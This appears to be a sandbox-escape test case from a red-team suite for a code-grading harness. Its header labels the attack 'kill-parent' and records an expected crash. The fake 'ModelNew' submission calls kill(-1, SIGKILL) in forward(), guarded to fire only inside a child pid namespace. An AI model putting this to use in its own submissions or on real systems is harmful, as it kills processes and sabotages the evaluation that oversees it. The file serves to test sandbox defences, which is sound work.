# attack: kill-parent
# variant: kill-minus-one
# weakness: kill(-1, SIGKILL) signals every process the caller may signal; as root outside a pid namespace that is the whole machine
# seen: docs/sandbox.md section 2.2 kill_parent; kill(2) ("If pid equals -1, sig is sent to every process ... except process 1")
# task: matmul
# expect: crashed
# side-effect: none
"""On the first call: kill(-1, SIGKILL). Guarded, because outside a sandbox this would kill the machine: it only
fires inside an evident child pid namespace: getppid() is 0 (the parent lives in an outer namespace) and this
process's pid is below 64, or /proc/self/status shows NSpid with two or more levels, a pid below 64 and at
most 16 visible processes. Guard not met: fail loudly without firing."""

import os
import signal

import torch.nn as nn


def _guard():
    if os.getppid() == 0 and os.getpid() < 64:
        return True, f"getppid() = 0, pid {os.getpid()}"
    try:
        with open("/proc/self/status") as f:
            nspid = next((line.split()[1:] for line in f if line.startswith("NSpid:")), [])
        visible = sum(1 for p in os.listdir("/proc") if p.isdigit())
    except OSError as exc:
        return False, f"cannot inspect /proc ({exc})"
    ok = len(nspid) >= 2 and int(nspid[-1]) < 64 and visible <= 16
    return ok, f"NSpid {nspid}, {visible} processes visible"


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()

    def forward(self, x):
        ok, why = _guard()
        if not ok:
            raise RuntimeError(f"kill-parent: kill(-1) not fired, no pid namespace evident ({why})")
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError as exc:
            raise RuntimeError(f"kill-parent blocked: kill(-1): {exc}") from None
        raise RuntimeError(f"kill-parent: kill(-1, SIGKILL) sent ({why}); this process survives by definition")
